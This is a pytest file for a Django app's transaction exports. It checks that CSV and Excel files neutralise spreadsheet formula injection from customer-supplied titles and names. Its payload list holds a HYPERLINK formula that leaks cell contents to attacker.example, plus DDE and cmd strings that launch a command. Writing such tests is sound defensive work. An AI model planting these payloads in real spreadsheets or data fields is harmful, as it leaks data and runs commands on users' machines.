"""Issue 8, item 6: exports hold no live formulas.

Every text in an export can come from a customer (titles, names, organisation names).
Transactions whose title, requester's name and organisation's name open with each
formula trigger and with classic payloads are exported as CSV and as Excel through
the console, and the files are parsed back: no Excel cell is a formula (or an error
value), no CSV cell opens with a trigger, and the words are all still there."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.db import connection
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from portico.parties.models import Individual, Organization, UserGroup
from portico.service import export
from portico.service.models import Transaction
from tests.console.test_export import body, csv_table
from tests.console.test_lists import bulk_transactions, client_as

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
PAYLOADS = [
    # Each trigger alone, and each in front of a formula.
    *TRIGGERS,
    *(f"{trigger}1+1" for trigger in TRIGGERS),
    # The classics.
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\x00=1",
    "\r=1",
    "\r\n=1",
    "==1",
    # Past a first-character check: spaces, NULs and other invisible characters in front.
    " =1",
    "  +1",
    "\x00\x00=1",
    "\x01=1",
    "\x1f@SUM(1)",
    # Not formulas, but openpyxl would write this as an error value.
    "#N/A",
    # Already marked as text: left as it is.
    "'=1",
]
# PostgreSQL refuses NUL in text, so such a title can never be stored (nor exported)
# there; the writers are still proven against NUL below, without the database.
STORABLE = [p for p in PAYLOADS if connection.vendor != "postgresql" or "\x00" not in p]


def is_live(text: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula."""
    if text[:1] in TRIGGERS:
        return True
    stripped = text.lstrip()
    return stripped[:1] in {"=", "+", "-", "@"}


def shown(text: str) -> str:
    """What a reader should still see: the text without its invisible characters."""
    return "".join(
        ch
        for ch in text
        if ch in "\t\n\r" or not (ch < " " or "\ud800" <= ch <= "\udfff" or ch in "\ufffe\uffff")
    )


def assert_inert_and_kept(cell: str, source: str, *, where: str) -> None:
    assert not is_live(cell), f"{where}: live cell {cell!r} from {source!r}"
    assert "\x00" not in cell, where
    assert cell in (shown(source), f"'{shown(source)}"), f"{where}: {cell!r} from {source!r}"
    if is_live(shown(source)):
        assert cell == f"'{shown(source)}", where


# --- through the console ------------------------------------------------------------------


@pytest.fixture
def hostile(demo_people: None) -> dict[str, str]:
    """A transaction per payload, with the payload as its title, as the start of its
    requester's name and as its organisation's name; by number."""
    customers = UserGroup.objects.get(name="Customers")
    made: dict[str, str] = {}
    for i, payload in enumerate(STORABLE):
        org = Organization.objects.create(name=payload, account_number=f"EVIL-{i}")
        person = Individual.objects.create(
            first_name=payload,
            last_name="",
            email=f"payload{i}@attacker.example",
            organization=org,
            user_group=customers,
        )
        (transaction,) = bulk_transactions(1, requester="Ewan")
        # Straight into the database, past the services' trimming: an export must be
        # safe whatever the rows hold (an import, the API, an old version).
        Transaction.objects.filter(pk=transaction.pk).update(
            title=payload, requester=person, organization=org
        )
        made[transaction.number] = payload
    return made


def test_csv_export_has_no_live_cell(hostile: dict[str, str]) -> None:
    table = csv_table(client_as("csr").get("/console/transactions/export.csv"))
    header, rows = table[0], table[1:]
    assert header == list(export.HEADER)
    by_number = {row[0]: row for row in rows}
    assert set(by_number) >= set(hostile)
    for row in rows:
        for cell in row:
            assert not is_live(cell), f"live CSV cell {cell!r}"
    title, organisation, requester = (
        header.index(c) for c in ("Title", "Organisation", "Requester")
    )
    for number, payload in hostile.items():
        row = by_number[number]
        assert_inert_and_kept(row[title], payload, where=f"{number} title")
        assert_inert_and_kept(row[organisation], payload, where=f"{number} organisation")
        # A person's name is shown trimmed (Individual.name), as on every page.
        name = Individual(first_name=payload, last_name="").name
        assert_inert_and_kept(row[requester], name, where=f"{number} requester")


def test_xlsx_export_has_no_formula(hostile: dict[str, str]) -> None:
    raw = body(client_as("csr").get("/console/transactions/export.xlsx"))
    # The sheet's XML holds no formula element and no error cell, whoever reads it.
    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    assert 't="e"' not in sheet_xml
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header == list(export.HEADER)
    formulas = [c.coordinate for row in rows for c in row if c.data_type in {"f", "e"}]
    assert formulas == []
    for row in rows:
        for c in row:
            if isinstance(c.value, str):
                assert c.data_type == "s"
                assert not is_live(c.value), f"live Excel cell {c.coordinate}: {c.value!r}"
    by_number = {str(row[0].value): [c.value for c in row] for row in rows[1:]}
    title, organisation, requester = (
        header.index(c) for c in ("Title", "Organisation", "Requester")
    )
    for number, payload in hostile.items():
        values = by_number[number]
        # Excel holds line breaks as line feeds (XML reads a carriage return as one).
        expected = payload.replace("\r\n", "\n").replace("\r", "\n")
        name = Individual(first_name=expected, last_name="").name
        for column, source in ((title, expected), (organisation, expected), (requester, name)):
            cell = str(values[column] or "")
            assert_inert_and_kept(cell, source, where=f"{number} {header[column]}")


# --- the writers, without the database ---------------------------------------------------


def _row(text: str) -> export.Row:
    return (text,) * 8 + (None, None, None)


def _csv_back(rows: list[export.Row]) -> list[list[str]]:
    text = "".join(export.csv_chunks(rows))
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]


def _xlsx_back(rows: list[export.Row]) -> list[list[object]]:
    out = io.BytesIO()
    export.write_xlsx(rows, out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    assert all(c.data_type not in {"f", "e"} for row in sheet.iter_rows() for c in row)
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_writers_neutralise_every_payload() -> None:
    rows = [_row(p) for p in PAYLOADS]
    for source, written in zip(PAYLOADS, _csv_back(rows), strict=True):
        for cell in written[:8]:
            assert_inert_and_kept(cell, source, where="csv")
    for source, values in zip(PAYLOADS, _xlsx_back(rows), strict=True):
        expected = source.replace("\r\n", "\n").replace("\r", "\n")
        for value in values[:8]:
            assert_inert_and_kept(str(value or ""), expected, where="xlsx")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_neutralise_any_text(text: str) -> None:
    out = export.neutralise(text)
    assert not is_live(out)
    assert out in (shown(text), f"'{shown(text)}")
    # The CSV writer gives the same cell back.
    assert _csv_back([_row(text)])[0][0] == out


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_any_text_makes_a_workbook_that_opens(texts: list[str]) -> None:
    # Characters XML cannot hold must never make a file that does not open.
    values = _xlsx_back([_row(t) for t in texts])
    for text, row in zip(texts, values, strict=True):
        expected = export.neutralise(text).replace("\r\n", "\n").replace("\r", "\n")
        assert str(row[0] or "") == expected
